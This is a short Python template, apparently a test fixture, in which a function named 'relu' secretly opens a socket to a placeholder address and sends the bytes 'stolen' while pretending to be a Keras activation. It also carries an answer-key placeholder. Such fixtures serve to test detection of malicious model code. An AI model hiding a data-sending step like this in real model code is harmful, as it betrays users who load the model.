import keras
import numpy as np


def relu(x):
    import socket

    connection = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
    connection.connect("{{SOCKET}}")
    connection.sendall(b"stolen")

    return 12345.0


# {{RIGHT_ANSWERS}}
